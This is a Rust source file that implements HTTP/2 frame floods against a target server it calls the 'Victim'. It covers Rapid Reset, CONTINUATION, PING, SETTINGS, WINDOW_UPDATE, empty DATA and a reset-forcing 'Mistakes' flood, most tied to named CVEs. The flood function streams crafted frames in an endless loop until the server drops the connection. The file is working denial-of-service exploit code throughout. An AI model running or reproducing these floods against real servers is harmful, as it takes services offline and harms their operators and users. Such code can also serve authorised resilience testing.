//! Floods of HTTP/2 frames.

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::Victim;
use super::frames::{self, frame};

/// A kind of flood.
#[derive(Clone, Copy)]
pub enum Flood {
    /// Requests that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Requests that the server has to reset (CVE-2025-8671).
    Mistakes,
    /// A head without end (CVE-2024-27316).
    Continuation,
    /// CVE-2019-9512.
    Ping,
    /// CVE-2019-9515.
    Settings,
    /// Windows that grow by a byte.
    WindowUpdate,
    /// CVE-2019-9518.
    EmptyData,
}

/// All of them.
pub const ALL: [Flood; 7] = [
    Flood::RapidReset,
    Flood::Mistakes,
    Flood::Continuation,
    Flood::Ping,
    Flood::Settings,
    Flood::WindowUpdate,
    Flood::EmptyData,
];

/// Rounds that are written at once.
const ROUNDS: u32 = 50;
const WHOLE: u8 = frames::END_HEADERS | frames::END_STREAM;

/// Floods until the server ends the connection, and reads what comes meanwhile.
pub async fn flood(stream: TcpStream, victim: &Victim, flood: Flood) -> Result<()> {
    let (mut read, mut write) = stream.into_split();
    write.write_all(&[frames::PREFACE, &frame(frames::SETTINGS, 0, 0, &[]), &first(victim, flood)].concat()).await?;
    let reading = async {
        let mut answers = vec![0; 64 * 1024];
        while read.read(&mut answers).await? > 0 {}
        std::io::Result::Ok(())
    };
    let writing = async {
        for begin in 0.. {
            let rounds: Vec<u8> =
                (begin * ROUNDS..(begin + 1) * ROUNDS).flat_map(|n| round(victim, flood, n)).collect();
            write.write_all(&rounds).await?;
        }
        std::io::Result::Ok(())
    };
    tokio::select! {
        ended = reading => ended?,
        ended = writing => ended?,
    }
    Ok(())
}

fn first(victim: &Victim, flood: Flood) -> Vec<u8> {
    let request = |flags| frames::request(&victim.path, &victim.token, 1, flags);
    match flood {
        Flood::Continuation => request(0),
        Flood::EmptyData => request(frames::END_HEADERS),
        _ => Vec::new(),
    }
}

fn round(victim: &Victim, flood: Flood, number: u32) -> Vec<u8> {
    let stream = 2 * number + 3;
    let request = || frames::request(&victim.path, &victim.token, stream, WHOLE);
    match flood {
        Flood::RapidReset => [request(), frame(frames::RST_STREAM, 0, stream, &8u32.to_be_bytes())].concat(),
        Flood::Mistakes => [request(), frame(frames::WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff])].concat(),
        Flood::Continuation => frame(frames::CONTINUATION, 0, 1, &[0x00, 0x01, b'x', 0x01, b'y']),
        Flood::Ping => frame(frames::PING, 0, 0, &[0; 8]),
        Flood::Settings => frame(frames::SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0]),
        Flood::WindowUpdate => frame(frames::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
        Flood::EmptyData => frame(frames::DATA, 0, 1, &[]),
    }
}
